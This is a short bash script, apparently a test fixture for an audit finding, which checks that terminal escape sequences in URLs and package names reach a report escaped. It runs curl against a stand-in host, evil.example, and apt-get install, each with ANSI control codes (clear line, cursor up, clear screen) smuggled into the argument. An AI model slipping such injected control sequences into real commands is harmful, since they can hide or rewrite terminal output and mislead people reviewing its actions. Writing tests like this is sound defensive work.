#!/bin/bash
# Finding 11: ESC sequences in URLs and package names must reach the
# report escaped (here: clear line, cursor up, clear screen).
curl -fsSL "https://evil.example/$(printf '\033[2K\033[1A')x"
apt-get install -y "$(printf 'pkg\033[2J')"
